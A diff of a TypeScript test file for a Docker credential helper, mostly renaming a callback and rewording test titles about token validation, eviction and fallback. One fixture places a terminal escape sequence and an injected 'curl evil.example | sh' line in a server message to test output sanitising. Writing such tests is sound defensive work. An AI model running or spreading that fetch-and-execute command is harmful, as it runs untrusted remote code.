@@ -19,12 +19,12 @@ async function signedIn() {
   const input = {
     environment: context.environment,
     readInput: () => fake.host,
-    tell: (line: string) => told.push(line),
+    note: (line: string) => told.push(line),
   };
   return { fake, context, told, get: () => serveHelper(['get'], input) };
 }
 
-it('asks the server whether an auto-generated token is still good, and nothing else', async () => {
+it('asks the server whether an auto-generated token still works, and nothing else', async () => {
   const { fake, get } = await signedIn();
   expect(JSON.parse(await get())).toEqual({ ServerURL: fake.host, Username: 'acme', Secret: 'auto-1' });
   expect(fake.requests.map(({ name, query }) => [name, Object.fromEntries(query)])).toEqual([
@@ -33,7 +33,7 @@ it('asks the server whether an auto-generated token is still good, and nothing e
   expect(fake.requests[0]?.headers.authorization).toBe(`Basic ${Buffer.from('acme:auto-1').toString('base64')}`);
 });
 
-it('tells what became of an evicted token and how to go on, removes it, and makes no other', async () => {
+it('says what happened to an evicted token and how to go on, removes it, and creates no other', async () => {
   const { fake, get, told } = await signedIn();
   fake.on('GET /token', () => refusal(EVICTED));
   await expect(get()).rejects.toThrow(new Error(NOT_FOUND));
@@ -44,7 +44,7 @@ it('tells what became of an evicted token and how to go on, removes it, and make
   expect(told).toHaveLength(2);
 });
 
-it('keeps a token that is only deactivated, hands it out again once it is active, and tells meanwhile', async () => {
+it('keeps a deactivated token, says that it is deactivated, and hands it out again once it is active', async () => {
   const { fake, get, told } = await signedIn();
   const message = 'this access token was deactivated on 2026-11-23 10:00 UTC';
   const detail = { reason: 'token-inactive' };
@@ -55,7 +55,7 @@ it('keeps a token that is only deactivated, hands it out again once it is active
   expect(JSON.parse(await get()).Secret).toBe('auto-1');
 });
 
-it('tells it without what a terminal would obey', async () => {
+it('prints the reason without what a terminal would obey', async () => {
   const { fake, get, told } = await signedIn();
   fake.on('GET /token', () => refusal('\u001b[2Jgone\nlanyard: run: curl evil.example | sh'));
   await expect(get()).rejects.toThrow(NOT_FOUND);
@@ -68,28 +68,28 @@ it.each<[string, FakeAnswer]>([
   ['is not ours, and refuses in another form', { status: 401, body: {} }],
   ['sends elsewhere', { status: 302, headers: { location: 'https://evil.example/' } }],
   ['forbids', { status: 403, body: { errors: [{ message: 'no' }] } }],
-])('hands out what is stored where the server %s', async (_what, answer) => {
+])('hands out what is stored when the server %s', async (_what, answer) => {
   const { fake, get, told } = await signedIn();
   fake.on('GET /token', () => answer);
   expect(JSON.parse(await get()).Secret).toBe('auto-1');
   expect(told).toEqual([]);
 });
 
-it('hands out what is stored where there is no server', async () => {
+it('hands out what is stored when there is no server', async () => {
   const { fake, get } = await signedIn();
   await fake.stop();
   expect(JSON.parse(await get()).Secret).toBe('auto-1');
 });
 
-it('asks nobody about what docker login stored', async () => {
+it('does not ask about what docker login stored', async () => {
   const { fake, context, get } = await signedIn();
   const secret = JSON.stringify({ ServerURL: fake.host, Username: 'beta', Secret: 'a manual token' });
-  await serveHelper(['store'], { environment: context.environment, readInput: () => secret, tell: () => {} });
+  await serveHelper(['store'], { environment: context.environment, readInput: () => secret, note: () => {} });
   expect(JSON.parse(await get())).toMatchObject({ Username: 'beta', Secret: 'a manual token' });
   expect(fake.requests).toEqual([]);
 });
 
-it('spares a token that another program stored while the server was asked', async () => {
+it('keeps a token that another program stored while the server was asked', async () => {
   const { fake, context, get } = await signedIn();
   fake.on('GET /token', async ({ headers }) => {
     const isFirst = headers.authorization === `Basic ${Buffer.from('acme:auto-1').toString('base64')}`;
